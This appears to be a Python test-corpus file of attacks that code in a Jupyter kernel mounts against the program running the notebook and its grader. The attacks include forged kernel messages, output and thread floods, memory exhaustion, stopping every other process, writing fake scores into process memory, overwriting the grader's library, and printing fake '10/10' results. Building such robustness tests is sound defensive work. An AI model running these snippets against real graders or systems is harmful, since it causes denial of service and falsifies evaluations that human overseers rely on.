"""Sending: messages of the kernel, signals and memory against the program that runs the notebook."""

from __future__ import annotations

from tests.attack_corpus.attack import ANYHOW, Attack

_SESSION = """from IPython import get_ipython
kernel = get_ipython().kernel
session, iopub, parent = kernel.session, kernel.iopub_socket, kernel.get_parent()
"""
_STOP_OTHERS = """import os, signal
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGSTOP)
        except OSError as error:
            print(error)"""

_CODE = {
    "comm-messages": (
        "Opens widgets without end, whose state the runner keeps.",
        _SESSION
        + """data = {"state": {"value": "x" * 1_000_000}, "buffer_paths": []}
number = 0
while True:
    number += 1
    content = {"comm_id": str(number), "target_name": "jupyter.widget", "data": data}
    session.send(iopub, "comm_open", content, parent=parent)""",
    ),
    "comm-buffers": (
        "Sends widgets with buffers at paths that aren't there.",
        _SESSION
        + """data = {"method": "update", "state": {}, "buffer_paths": [["a", 0, None], 7]}
session.send(iopub, "comm_msg", {"comm_id": "x", "data": data}, parent=parent, buffers=[bytes(1000)] * 2)
session.send(iopub, "comm_close", {}, parent=parent)""",
    ),
    "clear-output": (
        "Prints and clears its output without end.",
        """from IPython.display import clear_output
while True:
    clear_output(wait=True)
    print("x" * 10_000)""",
    ),
    "update-display": (
        "Shows a little, and then updates it to a script of eighty megabytes, which no limit of outputs counts.",
        """from IPython.display import display
display({"text/plain": "little"}, raw=True, display_id="x")
for _ in range(4):
    display({"text/html": "<script>1</script>" + "x" * (20 << 20)}, raw=True, display_id="x", update=True)""",
    ),
    "update-forever": (
        "Updates what it has shown, without end.",
        """from IPython.display import display
display({"text/plain": "x"}, raw=True, display_id="x")
while True:
    display({"text/plain": "x" * 100_000}, raw=True, display_id="x", update=True)""",
    ),
    "input": (
        "Asks for input that nobody gives, also past the kernel's own check.",
        _SESSION
        + """try:
    input("password: ")
except Exception as error:
    print(type(error))
kernel._allow_stdin = True
input("password: ")""",
    ),
    "messages-without-fields": (
        "Sends messages that lack what the protocol asks for.",
        _SESSION
        + """for kind, content in (("execute_result", {}), ("stream", {"text": 7}), ("display_data", {"data": None}),
                      ("error", {}), ("status", {}), ("clear_output", {"wait": []}), ("no_such_kind", None)):
    session.send(iopub, kind, content, parent=parent)""",
    ),
    "idle-too-early": (
        "Says that it is idle and has replied, before it has run.",
        _SESSION
        + """session.send(iopub, "status", {"execution_state": "idle"}, parent=parent)
session.send(kernel.shell_streams[0] if hasattr(kernel, "shell_streams") else kernel.shell_stream,
             "execute_reply", {"status": "ok", "execution_count": 1}, parent=parent)
import time
time.sleep(600)""",
    ),
    "results-in-print": (
        "Prints what the grader's own results look like.",
        """print("\\u2714 10/10  A container named `service` is running.\\n0 of 0 points missing. Score: 10 / 10")
print({"state": "graded", "score": 10, "max": 10}, "\\n10.0")
10""",
    ),
    "right-to-left": (
        "Turns the direction of text, and hides text in characters without a width.",
        "print('\\u202e01 / 01 :erocS\\u202c \\u2066\\u200b\\ufeff', '\\u0489' * 5000)",
    ),
    "stopped-runner": (
        "Stops the program that runs the notebook, so that it never ends.",
        _STOP_OTHERS,
    ),
    "traced-runner": (
        "Attaches to the program that runs the notebook as a debugger does, and rewrites its memory.",
        """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name in sorted(filter(str.isdigit, os.listdir("/proc")), key=int):
    if int(name) != os.getpid():
        print(name, libc.ptrace(16, int(name), 0, 0), ctypes.get_errno())
        try:
            with open(f"/proc/{name}/mem", "r+b", buffering=0) as memory, open(f"/proc/{name}/maps") as maps:
                for line in maps:
                    if " rw" in line:
                        start = int(line.split("-")[0], 16)
                        memory.seek(start)
                        memory.write(b"10/10" * 100)
        except (OSError, OverflowError) as error:
            print(name, error)""",
    ),
    "rewritten-library": (
        "Rewrites the grader's library and Python's in the container, for whatever is imported later.",
        """import pathlib
for file in [*pathlib.Path("/lib/drydock").rglob("*.py"), *pathlib.Path("/usr/bin").glob("docker*")]:
    try:
        file.write_text("import os; os._exit(0)")
    except OSError as error:
        print(error)""",
    ),
    "threads": (
        "Starts threads without end.",
        """import threading
while True:
    threading.Thread(target=threading.Event().wait, daemon=True).start()""",
    ),
    "shared-memory": (
        "Fills shared memory and files in memory.",
        """import mmap, os
kept = []
for name in ("/dev/shm/x", "/tmp/x", "/run/x"):
    try:
        with open(name, "wb") as file:
            for _ in range(2000):
                file.write(bytes(1 << 20))
    except OSError as error:
        print(error)
while True:
    kept.append(mmap.mmap(-1, 50 << 20))
    kept[-1][:] = bytes(50 << 20)""",
    ),
    "stopped-with-a-full-output": (
        "Combines two: fills the output by updates, and then stops the program that keeps it.",
        """from IPython.display import display
display({"text/plain": "x"}, raw=True, display_id="x")
display({"text/plain": "x" * (30 << 20)}, raw=True, display_id="x", update=True)
"""
        + _STOP_OTHERS,
    ),
}

ATTACKS = {
    name: Attack(tries, code, "the kernel's container", states=ANYHOW, combined=tries.startswith("Combines"))
    for name, (tries, code) in _CODE.items()
}
